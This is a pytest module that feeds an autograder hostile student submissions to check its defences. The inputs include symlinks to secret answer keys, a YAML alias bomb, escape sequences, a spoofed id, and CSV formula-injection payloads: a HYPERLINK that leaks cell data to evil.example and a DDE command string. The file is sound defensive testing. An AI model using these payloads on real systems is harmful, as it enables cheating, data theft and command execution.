"""Hostile submissions (issue 14): one folder per attack, run through the real CLI —
``grader grade`` (a class with honest students and every attack), ``grader extract`` and
``grader gradescope run`` (each attack alone) — under an audit hook that logs every file
opened and every folder listed by the run and its workers.

For every attack: the honest students get exactly what they get in a clean run, the
attacker gets a clear problem line (or the status the attack deserves), no file outside
the submission is read (the secrets the links point to are never opened, no link is ever
opened), nothing is written outside OUT, and the gradebook read back by ``csv`` has
intact rows with no formula or control character in a cell taken from student text.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from grader.key.build import build_key
from grader.rubric.load import load_rubric

REPO = Path(__file__).resolve().parents[2]
MINI = REPO / "tests" / "submission" / "fixtures" / "mini.yaml"
AUDITED = Path(__file__).with_name("audited.py")
RUBRIC, SHA = load_rubric(MINI)

RIGHT = {"q1.he_std": "sqrt(2/d)", "q1.count": 4640, "q2.mean": [[1, 2], [3, 4]], "q2.where": "after"}
RIGHT_JSON = json.dumps({"answers": RIGHT})
RIGHT_YAML = "answers:\n  q1.he_std: sqrt(2/d)\n  q1.count: 4640\n  q2.mean: [[1, 2], [3, 4]]\n  q2.where: after\n"
ROSTER = (
    "SID,Name,Email,login\n"
    "1001,Alice A,alice@x.org,alice\n1002,Bob B,bob@x.org,bob\n1003,Carol C,carol@x.org,carol\n"
    "666,Mallory M,mal@x.org,self-declared-id\n"
)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# --------------------------------------------------------------------------- the attacks


def _link(target: Path, link: Path) -> None:
    os.symlink(os.path.relpath(target, link.parent), link)


def _bomb(levels: int = 9) -> str:
    lines = ["b0: &b0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"b{i}: &b{i} [" + ", ".join([f"*b{i - 1}"] * 10) + "]" for i in range(1, levels)]
    return "bombs:\n" + "".join(f"  {line}\n" for line in lines)


def _write(folder: Path, name: str, text: str | bytes) -> None:
    path = folder / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")


@dataclass(frozen=True)
class Attack:
    """One hostile submission: how to build it (``build(folder, outside)``: ``outside``
    holds ``secret/answers.json`` and ``source/samples/correct/answers.json``, full-marks
    answers outside the submission), the problem line its student must see, and the
    statuses and total its parts must get in the batch."""

    name: str
    build: Callable[[Path, Path], None]
    problem: str | None
    statuses: dict[str, str] = field(default_factory=dict)
    total: float | None = None
    batch_only: bool = False


def _link_outside(folder: Path, outside: Path) -> None:
    os.symlink(outside / "secret" / "answers.json", folder / "answers.json")  # absolute


def _link_samples(folder: Path, outside: Path) -> None:
    _link(outside / "source" / "samples" / "correct" / "answers.json", folder / "answers.json")


def _link_classmate(folder: Path, outside: Path) -> None:
    _link(folder.parent / "alice" / "answers.yaml", folder / "answers.yaml")


def _link_folder(folder: Path, outside: Path) -> None:
    _link(outside / "secret", folder / "work")
    _link(outside / "secret" / "answers.json", folder / "notes.tex")


def _lone_surrogate(folder: Path, outside: Path) -> None:
    _write(folder, "answers.json", RIGHT_JSON.replace('"q1.count": 4640', '"q1.count": "46\\ud80040"'))


def _self_declared(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", "student: {id: '1001', name: Alice A}\n" + RIGHT_YAML)


def _alias_bomb(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", _bomb() + "student: {id: *b8, name: *b8}\nanswers:\n  q1.count: *b8\n  q2.where: after\n")


def _big_integer(folder: Path, outside: Path) -> None:
    _write(folder, "answers.json", '{"answers": {"q1.count": ' + "9" * 5000 + ', "q2.where": "after"}}')


def _unclosed_groups(folder: Path, outside: Path) -> None:
    _write(folder, "hw.tex", "\\answer{q2.where}{after}\n" + "\\answer{q1.count}{\\boxed{\\def\\x{" * 4000)


def _ignored_blocks(folder: Path, outside: Path) -> None:
    _write(folder, "hw.tex", (
        "\\begin{verbatim}\n\\answer{q2.where}{before}\n\\end{verbatim}\n"
        "\\iffalse\n\\answer{q1.count}{4640}\n\\ifx a b \\fi\n\\fi\n"
        "% \\answer{q1.he_std}{sqrt(2/d)}\n"
        "\\verb|\\answer{q2.mean}{[[1, 2], [3, 4]]}|\n"
        "\\answer{q2.where}{after}\n"
    ))


def _twice_yaml(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", "answers:\n  q2.where: before\n  q2.where: after\n")


def _twice_tex(folder: Path, outside: Path) -> None:
    _write(folder, "hw.tex", "\\answer{q2.where}{before}\n\\answer{q2.where}{after}\n")


def _formula_name(folder: Path, outside: Path) -> None:
    student = json.dumps({"id": folder.name, "name": FORMULA_NAME, "email": "\t+cmd|' /C calc'!A0"})
    _write(folder, "answers.yaml", f"student: {student}\n" + RIGHT_YAML)


def _not_utf8(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", b"answers:\n  q2.where: \xe9after\n")


def _utf16(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", RIGHT_YAML.encode("utf-16"))


def _escapes(folder: Path, outside: Path) -> None:
    _write(folder, "answers.json", json.dumps({"answers": {"q2.where": "\x1b[2J\x1b[31mafter", "q\x1b[31m9": "x"}}))


def _fifo(folder: Path, outside: Path) -> None:
    os.mkfifo(folder / "answers.yaml")


def _huge_writeup(folder: Path, outside: Path) -> None:
    body = "".join(f"\\answer{{q9.{index}}}{{{index}}}\n" for index in range(60_000))
    _write(folder, "hw.tex", "\\answer{q2.where}{after}\n" + body + "x" * (1_900_000 - len(body)))


def _deep_nesting(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", "answers:\n  q2.where: after\n  q2.mean: " + "[" * 30_000 + "]" * 30_000 + "\n")


def _right(folder: Path, outside: Path) -> None:
    _write(folder, "answers.yaml", RIGHT_YAML)


ATTACKS = [
    Attack("link-to-a-file-outside", _link_outside, "link not followed", total=0),
    Attack("link-to-the-samples", _link_samples, "link not followed", total=0),
    Attack("link-to-a-classmate", _link_classmate, "link not followed", total=0),
    Attack("link-to-a-folder", _link_folder, "link not followed", total=0),
    Attack("lone-surrogate", _lone_surrogate, "lone UTF-16 surrogate", {"q1.count": "invalid", "q2.where": "correct"}),
    Attack("self-declared-id", _self_declared, "the answers file's id is not used", {"q2.where": "correct"}),
    Attack("alias-bomb", _alias_bomb, "too large", {"q1.count": "invalid", "q2.where": "correct"}),
    Attack("big-integer", _big_integer, None, {"q1.count": "invalid", "q2.where": "correct"}),
    Attack("unclosed-groups", _unclosed_groups, "fix its braces", {"q1.count": "invalid", "q2.where": "correct"}),
    Attack("ignored-blocks", _ignored_blocks, None,
           {"q1.count": "missing", "q1.he_std": "missing", "q2.mean": "missing", "q2.where": "correct"}),
    Attack("answered-twice-yaml", _twice_yaml, "the first one is used", {"q2.where": "wrong"}),
    Attack("answered-twice-tex", _twice_tex, "the first one is used", {"q2.where": "wrong"}),
    Attack("formula-name", _formula_name, None, {"q2.where": "correct"}),
    Attack("not-utf8", _not_utf8, "not valid UTF-8 text", {"q2.where": "missing"}),
    Attack("utf16-with-bom", _utf16, None, {"q2.where": "correct", "q1.count": "correct"}),
    Attack("escape-sequences", _escapes, "is not a part of this assignment"),
    Attack("fifo", _fifo, "not a regular file", total=0),
    Attack("huge-writeup", _huge_writeup, "more like these", {"q2.where": "correct"}),
    Attack("deep-nesting", _deep_nesting, "nested too deeply", total=0),
    # class-level attacks (a folder's name or kind): only in a batch
    Attack("=1+1", _right, None, {"q2.where": "correct"}, batch_only=True),
    Attack("esc\x1b[31mred", _right, None, {"q2.where": "correct"}, batch_only=True),
    Attack("x" * 240, _right, None, {"q2.where": "correct"}, batch_only=True),
    # a folder named like alice's SID matches her roster row: both are kept apart, told, and a
    # folder named like the stem alice is then given ("1001__alice") never replaces her files
    Attack("1001", _right, "also claims student id '1001'", {"q2.where": "correct"}, batch_only=True),
    Attack("1001__alice", _right, None, {"q2.where": "correct"}, batch_only=True),
]
HONEST = {
    "alice": lambda folder: _write(folder, "answers.yaml", RIGHT_YAML),
    "bob": lambda folder: _write(folder, "hw.tex", "\\answer{q1.he_std}{$\\sqrt{\\frac{2}{d}}$}\n\\answer{q2.where}{before}\n"),
    "carol": lambda folder: _write(folder, "answers.json", json.dumps({"answers": {"q1.count": 4608, "q2.where": "after"}})),
}


def _outside(root: Path) -> Path:
    for place in ("secret", "source/samples/correct"):
        (root / place).mkdir(parents=True, exist_ok=True)
        (root / place / "answers.json").write_text(RIGHT_JSON, encoding="utf-8")
    return root


def _make_class(root: Path, attacks: list[Attack]) -> Path:
    subs = root / "class"
    for name, build in HONEST.items():
        (subs / name).mkdir(parents=True)
        build(subs / name)
    for attack in attacks:
        (subs / attack.name).mkdir(parents=True)
        attack.build(subs / attack.name, root)
    if attacks:
        _link(subs / "alice", subs / "linked-student")  # a whole student folder that is a link
        (subs / ".hidden").mkdir()
        _write(subs / ".hidden", "answers.yaml", RIGHT_YAML)
    return subs


def _audited(args: list[str], log: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GRADER_AUDIT_LOG": str(log), "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, str(AUDITED), *args], cwd=REPO, capture_output=True, text=True,
                          timeout=600, env=env)  # every argument is absolute


def _opened(log: Path) -> list[tuple[str, str]]:
    if not log.exists():
        return []
    rows = [line.split("\t") for line in log.read_text(encoding="utf-8").splitlines()]
    return [(event, path) for _, event, path in rows]


def _snapshot(root: Path, skip: set[Path]) -> dict[str, tuple[int, int]]:
    out: dict[str, tuple[int, int]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [name for name in dirnames if Path(dirpath, name) not in skip]
        for name in [*filenames, *dirnames]:
            path = Path(dirpath, name)
            if path in skip:
                continue
            info = path.lstat()
            out[str(path.relative_to(root))] = (info.st_size, info.st_mtime_ns if not path.is_dir() else 0)
    return out


def _assert_nothing_outside_read(log: Path, root: Path, submissions: Path, *allowed: Path) -> None:
    """Every file opened or folder listed under ``root`` (where the secrets are) is inside
    ``submissions`` or one of ``allowed`` (the output folder, the rubric, key and roster),
    and nothing opened inside the submissions is a symbolic link."""
    opened = _opened(log)
    assert opened, "the audit hook logged nothing"
    places = (submissions, *allowed)
    for event, path in opened:
        where = Path(path)
        if where == root or not where.is_relative_to(root):
            continue
        assert any(where == place or where.is_relative_to(place) for place in places), f"{event} {path}: outside"
        if where.is_relative_to(submissions):
            assert not where.is_symlink(), f"{event} {path}: a symbolic link was opened"
    for secret in (root / "secret" / "answers.json", root / "source" / "samples" / "correct" / "answers.json"):
        assert str(secret) not in {path for _, path in opened}


# --------------------------------------------------------------------------- grader grade


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """A clean class (honest students only) and the same class with every attack, graded."""
    root = _outside(tmp_path_factory.mktemp("hostile"))
    key = root / "mini.key.json"
    key.write_text(build_key(RUBRIC, SHA).dumps(), encoding="utf-8")
    roster = root / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    clean = _make_class(root / "clean", [])
    subs = _make_class(root, ATTACKS)
    common = ["--key", str(key), "--roster", str(roster), "--workers", "2"]
    clean_run = _audited(["grade", str(MINI), str(clean), "-o", str(root / "clean-out"), "--quiet", *common],
                         root / "clean.log")
    assert clean_run.returncode == 0, clean_run.stderr
    out = root / "out"
    log = root / "audit.log"
    before = _snapshot(root, {out, log, root / "clean-out", root / "clean.log"})
    run = _audited(["grade", str(MINI), str(subs), "-o", str(out), *common], log)
    after = _snapshot(root, {out, log, root / "clean-out", root / "clean.log"})
    return {"root": root, "subs": subs, "out": out, "clean": root / "clean-out", "run": run, "log": log,
            "before": before, "after": after}


def _feedback(out: Path) -> dict[str, dict]:
    """Feedback JSON by student folder."""
    found = {}
    for path in (out / "feedback").glob("*.json"):
        data = json.loads(path.read_text(encoding="utf-8"))
        found[data["student"]["folder"]] = data
    return found


def test_batch_completes_with_one_line_per_problem(batch: dict) -> None:
    run = batch["run"]
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr + run.stdout
    assert "\x1b" not in run.stdout + run.stderr, "a student's escape sequence reached the terminal"


def test_honest_students_score_as_in_a_clean_run(batch: dict) -> None:
    clean, hostile = _feedback(batch["clean"]), _feedback(batch["out"])
    for folder in HONEST:
        assert hostile[folder]["student"]["id"] == clean[folder]["student"]["id"]
        assert hostile[folder]["total"] == clean[folder]["total"]
        assert [(p["part_id"], p["status"], p["points"]) for p in hostile[folder]["parts"]] == [
            (p["part_id"], p["status"], p["points"]) for p in clean[folder]["parts"]
        ]
    assert hostile["alice"]["total"] == 5.5  # every auto-graded part right (q2.why is left for a person)
    stems = sorted(path.stem for path in (batch["out"] / "feedback").glob("*.json"))
    assert stems.count("1001__alice") == 1 and "1001__alice__2" in stems  # nobody's files replaced


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name[:30].encode("unicode_escape").decode() for a in ATTACKS])
def test_each_attack_gets_a_clear_outcome(batch: dict, attack: Attack) -> None:
    data = _feedback(batch["out"])[attack.name]
    statuses = {part["part_id"]: part["status"] for part in data["parts"]}
    if attack.problem is not None:
        assert any(attack.problem in problem for problem in data["problems"]), data["problems"]
    for part_id, status in attack.statuses.items():
        assert statuses[part_id] == status, (part_id, data["parts"])
    if attack.total is not None:
        assert data["total"] == attack.total
    assert all(status != "missing" for part_id, status in statuses.items() if part_id in attack.statuses
               and attack.statuses[part_id] == "invalid")
    markdown = (batch["out"] / "feedback" / (Path(data["student"]["id"]).name + ".md"))
    sizes = [path.stat().st_size for path in (batch["out"] / "feedback").glob("*")]
    assert max(sizes) < 64 * 1024, "a feedback file grew with the submission"
    del markdown


def test_self_declared_id_is_never_used(batch: dict) -> None:
    data = _feedback(batch["out"])["self-declared-id"]
    assert data["student"]["id"] == "666" and data["student"]["name"] == "Mallory M"


def test_class_level_links_and_hidden_folders_are_reported_not_graded(batch: dict) -> None:
    summary = json.loads((batch["out"] / "summary.json").read_text(encoding="utf-8"))
    problems = " | ".join(summary["problems"])
    assert "linked-student: a symbolic link, not a folder; link not followed" in problems
    assert "hidden folders skipped (not graded): .hidden" in problems
    assert "linked-student" not in _feedback(batch["out"])


def test_no_path_outside_a_submission_is_read(batch: dict) -> None:
    root = batch["root"]
    _assert_nothing_outside_read(batch["log"], root, batch["subs"], batch["out"], root / "mini.key.json",
                                 root / "roster.csv")


def test_nothing_is_written_outside_out(batch: dict) -> None:
    assert batch["after"] == batch["before"]


def test_gradebook_read_back_by_csv_is_intact_and_inert(batch: dict) -> None:
    with open(batch["out"] / "gradebook.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert len(body) == len(list((batch["out"] / "feedback").glob("*.json")))
    assert all(len(row) == len(header) for row in body)
    for row in body:
        for cell in row[:3]:  # SID, Name, Email: taken from folder names, the roster, the answers file
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), row
            assert cell.isprintable(), row
            assert len(cell) <= 254
        for cell in row[3:]:
            float(cell)  # numbers stay numbers
    by_folder = {row[0]: row for row in body}
    assert by_folder["'=1+1"][3] == "5.5"
    assert any(row[1] == "'" + FORMULA_NAME for row in body)
    assert any(row[2] == "'+cmd|' /C calc'!A0" for row in body)
    assert "esc[31mred" in by_folder


# --------------------------------------------------------------------------- grader extract


SINGLE = [attack for attack in ATTACKS if not attack.batch_only]


@pytest.mark.parametrize("attack", SINGLE, ids=[a.name for a in SINGLE])
def test_extract_reports_each_attack(tmp_path: Path, attack: Attack) -> None:
    outside = _outside(tmp_path)
    subs = tmp_path / "class"
    for name, build in HONEST.items():
        (subs / name).mkdir(parents=True)
        build(subs / name)
    folder = subs / attack.name
    folder.mkdir()
    attack.build(folder, outside)
    (tmp_path / "roster.csv").write_text(ROSTER, encoding="utf-8")
    log = tmp_path / "audit.log"
    result = _audited(["extract", str(folder), "--rubric", str(MINI), "--roster", str(tmp_path / "roster.csv")], log)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert "\x1b" not in result.stdout, "a student's escape sequence reached the terminal"
    if attack.problem is not None:
        assert attack.problem in result.stdout, result.stdout[-2000:]
    _assert_nothing_outside_read(log, outside, folder, tmp_path / "roster.csv")
    for name in HONEST:  # a classmate's files are never read while extracting this folder
        assert not any(Path(path).is_relative_to(subs / name) for _, path in _opened(log))


# --------------------------------------------------------------------------- grader gradescope run


@pytest.mark.parametrize("attack", SINGLE, ids=[a.name for a in SINGLE])
def test_gradescope_run_reports_each_attack(tmp_path: Path, attack: Attack) -> None:
    root = _outside(tmp_path / "autograder")
    (root / "source").mkdir(exist_ok=True)
    shutil.copyfile(MINI, root / "source" / "rubric.yaml")
    (root / "source" / "key.json").write_text(build_key(RUBRIC, SHA).dumps(), encoding="utf-8")
    (root / "submission_metadata.json").write_text(json.dumps({
        "id": 77, "users": [{"name": "Mallory M", "sid": "666", "email": "mal@x.org"}],
    }), encoding="utf-8")
    submission = root / "submission"
    submission.mkdir()
    attack.build(submission, root)
    log = tmp_path / "audit.log"
    result = _audited(["gradescope", "run", "--root", str(root)], log)
    assert result.returncode == 0, result.stderr
    results = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
    text = "\n".join(test.get("output", "") for test in results["tests"])
    assert "needs manual review" not in results.get("output", ""), results.get("output")
    if attack.problem is not None:
        assert attack.problem in text, text[:3000]
    if attack.total is not None:
        assert results["score"] == attack.total
    source = root / "source"  # the autograder's own files (never its samples)
    _assert_nothing_outside_read(log, root, submission, source / "rubric.yaml", source / "rubric.json",
                                 source / "key.json", source / "build-info.json", root / "submission_metadata.json",
                                 root / "results")
    if attack.name == "self-declared-id":
        assert results["extra_data"]["student"] == "666"
